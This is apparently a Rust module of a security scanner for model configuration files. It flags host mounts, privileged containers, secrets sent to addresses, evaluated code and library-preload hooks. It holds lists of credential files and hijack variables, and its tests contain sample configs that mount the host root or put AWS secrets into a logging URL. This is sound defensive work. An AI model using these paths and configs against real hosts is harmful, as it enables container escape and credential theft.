//! What a configuration hands out: places of the host to a container, secrets to an address, programs to an
//! interpreter, and what it holds in another form.

use super::{Act, MAX_SAID, Reader, Said};
use crate::metadata::{self, Text};
use crate::pickle::Effect;

/// Texts that hold programs; more of them say nothing new.
const MAX_HIDDEN: usize = 16;
/// A program given as an argument.
const MAX_PROGRAM: usize = 64 << 10;

impl Reader {
    /// Whether a secret marker of LangChain stands among the words of a prompt, which whoever runs the model is sent.
    fn secret_in_words(&self, near: &str, text: &str) -> bool {
        const WORDS: [&str; 6] = ["partial_variables", "prompt", "template", "messages", "prefix", "suffix"];
        near == "id"
            && text.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_')
            && SECRETS.iter().any(|secret| text.contains(secret))
            && self.levels.iter().any(|level| WORDS.contains(&level.key.as_str()))
    }

    pub(super) fn reaches(&mut self, near: &str, text: &str, string: bool, at: u64) {
        if string && text.len() >= 64 && self.config.hidden.len() < MAX_HIDDEN {
            let hides = metadata::hidden(text.as_bytes()).is_some();
            // What stable-baselines3 unpickles of its own is judged as the pickle it is.
            let own = near == ":serialized:" && self.config.pickles.len() < MAX_HIDDEN;
            let own = own.then(|| metadata::decode_base64(text.trim().as_bytes())).flatten();
            if let Some(bytes) = own.filter(|bytes| bytes.starts_with(b"\x80")) {
                let path = self.path();
                self.config.pickles.push((path, bytes));
            } else if hides {
                let path = self.path();
                self.config.hidden.push(Text::new(&path, text));
            }
        }
        if let Some(why) = self.of_the_host(near, text) {
            self.say(|config| &mut config.host, why, at);
        }
        // Expressions that a reader of the file evaluates.
        let evaluated = ["${eval:", "${python:", "eval(", "exec("].iter().any(|open| text.contains(open));
        // A value that is code and stands where no words do is there to be evaluated.
        const WORDS: [&str; 16] = [
            "content",
            "text",
            "prompt",
            "description",
            "code",
            "answer",
            "question",
            "output",
            "input",
            "instruction",
            "completion",
            "response",
            "title",
            "value",
            "source",
            "message",
        ];
        let listed = self.levels.first().is_none_or(|level| level.list);
        let alone = text.len() < 300 && !listed && !WORDS.iter().any(|word| near.contains(word));
        if text.len() < 500 && text.contains("__import__(") && (evaluated || alone) && near != "expr_str" {
            self.item(Act::Calls, "eval", Effect::Executes, at);
        }
        if secret_file(text) {
            self.say(
                |config| &mut config.paths,
                text.chars().filter(|c| !c.is_control()).take(200).collect(),
                at,
            );
        }
        let image = matches!(near, "Env" | "env" | "environment");
        let keyed = HOOKS.iter().any(|name| name.strip_suffix('=') == Some(near));
        if keyed && !PRELOADS.contains(&near) {
            let line = format!("{near}={}", text.chars().take(400).collect::<String>());
            self.say(|config| &mut config.commands, line, at);
        }
        if image && HOOKS.iter().any(|name| text.starts_with(name)) {
            self.say(|config| &mut config.commands, text.chars().take(400).collect(), at);
        }
        // Of an image, a variable that is a command itself.
        if near == "Env" && (text.contains('|') || text.contains("$(")) {
            self.say(|config| &mut config.commands, text.chars().take(2_000).collect(), at);
        }
        let plain = text.strip_prefix("http://").is_some_and(|host| {
            let host = host.split(['/', ':']).next().unwrap_or("");
            host.contains('.')
                && !host.starts_with("127.")
                && !host.starts_with("10.")
                && !host.starts_with("192.168.")
        });
        let lent = self.config.keys.iter().any(|key| key == "lc")
            && ["api_base", "base_url", "endpoint"].iter().any(|end| near.ends_with(end));
        let pictured = string
            && text.split("](http").skip(1).any(|rest| {
                let address = rest.split([')', ' ']).next().unwrap_or("");
                let holds = address.contains('{') || text.contains("encoded") && address.contains("?");
                holds && text.contains("![")
            })
            && ["prompt", "system", "instruction", "template", "suffix", "prefix"]
                .iter()
                .any(|word| near.contains(word));
        if lent && plain || pictured {
            self.say(|config| &mut config.sent, text.chars().take(200).collect(), at);
        }
        if sends_secret(text) || names_secret(near, text) || self.secret_in_words(near, text) {
            self.say(|config| &mut config.sent, text.chars().take(200).collect(), at);
        }
        if near == "download"
            && string
            && (text.contains('\n') || text.starts_with("import ") || text.starts_with("from "))
        {
            let program = text.chars().take(MAX_PROGRAM).collect();
            self.say(|config| &mut config.programs, program, at);
        }
        let before = self.levels.last().filter(|level| level.list).map(|level| level.before.clone());
        let before = before.unwrap_or_default();
        if PRELOADS.contains(&near) || PRELOADS.contains(&before.as_str()) {
            let name: &str = if PRELOADS.contains(&near) { near } else { &before };
            let line = format!("{name}={}", text.chars().take(400).collect::<String>());
            self.say(|config| &mut config.commands, line, at);
        }
        if matches!(before.as_str(), "-c" | "-e" | "--eval")
            && matches!(near, "args" | "argv" | "command" | "cmd" | "entrypoint")
        {
            let program = text.chars().take(MAX_PROGRAM).collect();
            self.say(|config| &mut config.programs, program, at);
        }
        let chooses = near.ends_with("_implementation") || near.ends_with("_implementation_internal");
        if (chooses || self.below("kernel_config") || self.below("kernel_mapping")) && foreign_kernel(text) {
            self.item(Act::ForeignCode, text, Effect::Imports, at);
        }
        if let Some(level) = self.levels.last_mut().filter(|level| level.list) {
            level.before = text.chars().take(40).collect();
        }
    }

    fn say(&mut self, list: fn(&mut super::Config) -> &mut Vec<Said>, text: String, at: u64) {
        let path = self.path();
        let list = list(&mut self.config);
        if list.len() < MAX_SAID {
            list.push(Said { path, text, offset: at });
        }
    }

    /// A place or a right of the host that a container is given, in words.
    fn of_the_host(&self, near: &str, text: &str) -> Option<String> {
        let within = |key: &str| self.levels.iter().any(|level| level.key == key);
        let shown = || text.chars().filter(|c| !c.is_control()).take(120).collect::<String>();
        let mounts = matches!(near, "volumes" | "binds" | "Binds" | "mounts");
        if mounts || within("runArgs") || near == "runArgs" {
            let given =
                text.trim_start_matches("--volume=").trim_start_matches("-v=").trim_start_matches("-v ");
            let source = match given.split_once("source=") {
                Some((_, rest)) => rest.split(',').next(),
                None => given.split_once(':').map(|(source, _)| source),
            };
            if source.is_some_and(of_everybody) {
                return Some(format!("`{}` of the host is mounted", shown()));
            }
        }
        let source = near == "source" && (within("volumes") || within("mounts"));
        if (source || near == "path" && within("hostPath")) && of_everybody(text) {
            return Some(format!("`{}` of the host is mounted", shown()));
        }
        let container = within("services") || within("securityContext") || within("spec");
        // Sharing memory with the host (`ipc`) is ordinary for training.
        let shares = near == "pid" && text == "host" && within("services")
            || near == "hostPID" && text == "true" && within("spec");
        let rights = matches!(near, "cap_add" | "add")
            && matches!(text, "ALL" | "SYS_ADMIN" | "SYS_MODULE" | "CAP_SYS_ADMIN")
            && container;
        let devices = near == "devices"
            && ["/dev/sd", "/dev/nvme", "/dev/mem", "/dev/kmem", "/dev/disk"]
                .iter()
                .any(|device| text.starts_with(device));
        let cluster = near == "name" && within("roleRef") && text == "cluster-admin";
        if shares || rights || devices || cluster {
            return Some(format!("`{}: {}` gives it what belongs to the host", near, shown()));
        }
        let all = near == "privileged" && text == "true" && (within("services") || within("securityContext"));
        (all || text == "--privileged" && (near == "runArgs" || near == "args"))
            .then(|| "it is given every right on the host".to_owned())
    }
}

/// Variables by which every start of an interpreter runs a file, every program loads a library, or what is fetched comes
/// from somewhere else.
const HOOKS: [&str; 27] = [
    "HTTP_PROXY=",
    "HTTPS_PROXY=",
    "ALL_PROXY=",
    "http_proxy=",
    "https_proxy=",
    "all_proxy=",
    "PIP_INDEX_URL=",
    "PIP_EXTRA_INDEX_URL=",
    "UV_INDEX_URL=",
    "UV_DEFAULT_INDEX=",
    "HF_ENDPOINT=",
    "NPM_CONFIG_REGISTRY=",
    "npm_config_registry=",
    "LD_PRELOAD=",
    "LD_AUDIT=",
    "DYLD_INSERT_LIBRARIES=",
    "PYTHONSTARTUP=",
    "PERL5OPT=",
    "RUBYOPT=",
    "NODE_OPTIONS=",
    "BASH_ENV=",
    "PYTHONBREAKPOINT=",
    "JAVA_TOOL_OPTIONS=",
    "_JAVA_OPTIONS=",
    "LUA_INIT=",
    "R_PROFILE_USER=",
    "GCONV_PATH=",
];

/// Files of a host by which somebody gets in, as a whole value.
#[must_use]
pub fn secret_file(text: &str) -> bool {
    const WHOLE: [&str; 4] = ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ"];
    const ENDS: [&str; 13] = [
        "/.ssh/id_rsa",
        "/.ssh/id_ed25519",
        "/.ssh/id_ecdsa",
        "/.ssh/authorized_keys",
        "/.aws/credentials",
        "/.netrc",
        "/.git-credentials",
        "/.kube/config",
        "/.docker/config.json",
        "/.huggingface/token",
        "/huggingface/token",
        "/.pypirc",
        "/etc/shadow",
    ];
    if text.len() > 200 || text.contains(char::is_whitespace) {
        return false;
    }
    let path = text.trim_start_matches("file://");
    let host_key = path.starts_with("/etc/ssh/ssh_host_") && !path.ends_with(".pub");
    path.starts_with(['/', '~', '$', '.'])
        && (WHOLE.contains(&path) || host_key || ENDS.iter().any(|end| path.ends_with(end)))
}

const PRELOADS: [&str; 3] = ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"];

/// Places of a host that no model needs: everything, its settings, its processes, its keys, its container engine.
fn of_everybody(path: &str) -> bool {
    const PLACES: [&str; 9] = [
        "",
        "/etc",
        "/root",
        "/proc",
        "/boot",
        "/home",
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
    ];
    const KEYS: [&str; 4] = ["/.ssh", "/.aws", "/.kube", "/.gnupg"];
    if !path.starts_with(['/', '~', '$']) {
        return false;
    }
    let path = path.trim_end_matches('/').replace("${HOME}", "$HOME");
    PLACES.contains(&path.as_str()) || KEYS.iter().any(|key| path.ends_with(key))
}

const SECRETS: [&str; 7] = ["KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL", "COOKIE"];

/// Whether a text asks a resolver for a variable of the environment that is called like a secret.
fn resolves_secret(text: &str) -> bool {
    ["${oc.env:", "${env:", "${oc.decode:"].iter().any(|resolver| {
        text.split(resolver).skip(1).any(|name| {
            let name = name.trim_start_matches("${oc.env:");
            let name = name.split([',', '}', ':']).next().unwrap_or("").to_ascii_uppercase();
            SECRETS.iter().any(|secret| name.contains(secret))
        })
    })
}

/// Whether a secret of the environment is put into what something is called or described as, which others read.
fn names_secret(near: &str, text: &str) -> bool {
    const SHOWN: [&str; 12] = [
        "name",
        "run_name",
        "project",
        "entity",
        "group",
        "tags",
        "notes",
        "title",
        "description",
        "experiment_name",
        "task_name",
        "comment",
    ];
    SHOWN.contains(&near) && resolves_secret(text)
}

/// Whether an address is put together with a secret of the environment, beside its host.
fn sends_secret(text: &str) -> bool {
    let Some((_, rest)) = text.split_once("http").and_then(|(_, rest)| rest.split_once("://")) else {
        return false;
    };
    // What comes before the host signs in to it, as addresses of package indices do.
    let Some(path) = rest.find(['/', '?']).and_then(|at| rest.get(at..)) else { return false };
    resolves_secret(path)
}

/// Whether a choice of an implementation names a repository, `owner/name`, whose code is fetched and imported.
fn foreign_kernel(text: &str) -> bool {
    let text = text.rsplit('|').next().unwrap_or(text);
    let name = text.split([':', '@']).next().unwrap_or("");
    let Some((owner, repository)) = name.split_once('/') else { return false };
    let plain = |part: &str| {
        !part.is_empty() && part.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    };
    // The library's own kernels are kept there.
    owner != "kernels-community" && plain(owner) && plain(repository)
}

#[cfg(test)]
mod tests {
    use mantlet_vocab::MemorySource;

    use super::super::{Config, json, yaml};
    use crate::pickle::Effects;

    fn read(text: &str) -> Config {
        json(&MemorySource::new(text.as_bytes()), Effects::default())
    }

    #[test]
    fn what_is_handed_out_is_told() {
        let host = |text: &str| yaml(text, Effects::default()).host.len();
        assert_eq!(host("docker_env:\n  volumes: ['/:/host:rw', '/data:/data']\n"), 1);
        assert_eq!(host("services:\n  a:\n    privileged: true\n    volumes:\n    - ./w:/w\n"), 1);
        assert_eq!(host("volumes:\n- name: v\n  hostPath:\n    path: /etc\n"), 1);
        assert_eq!(host("services:\n  a:\n    volumes:\n    - /etc/localtime:/etc/localtime:ro\n"), 0);
        let sent = |text: &str| yaml(text, Effects::default()).sent.len();
        assert_eq!(sent("url: https://x.example/log?k=${oc.env:AWS_SECRET_ACCESS_KEY,none}\n"), 1);
        assert_eq!(sent("url: https://x.example/${oc.env:WANDB_PROJECT,none}\n"), 0);
        assert_eq!(sent("url: https://u:${oc.env:TOKEN}@x.example/a\n"), 0);
        assert_eq!(sent("logger:\n  name: run-${oc.env:HF_TOKEN}\n"), 1);
        assert_eq!(sent("logger:\n  name: run-${oc.env:SLURM_NNODES,1}\n  api_key: ${oc.env:HF_TOKEN}\n"), 0);
        let secret = |key: &str| {
            let marker = r#"{"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}"#;
            read(&format!(r#"{{"kwargs": {{"{key}": {{"ctx": {marker}}}}}}}"#)).sent.len()
        };
        assert_eq!((secret("partial_variables"), secret("openai_api_key")), (1, 0));
    }

    #[test]
    fn kernels_programs_and_hidden_texts_are_told() {
        assert_eq!(read(r#"{"_attn_implementation_internal": "a/b:forward"}"#).items.len(), 1);
        assert_eq!(read(r#"{"attn_implementation": "flash_attention_2"}"#).items.len(), 0);
        assert_eq!(read(r#"{"attn_implementation": "kernels-community/flash"}"#).items.len(), 0);
        assert_eq!(read(r#"{"argv": ["python", "-c", "print(1)"]}"#).programs.len(), 1);
        assert_eq!(read(r#"{"argv": ["python", "-m", "x"]}"#).programs.len(), 0);
        let elf = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
        assert_eq!(read(&format!("{{\"a\": \"data:x;base64,{elf}\"}}")).hidden.len(), 1);
    }
}
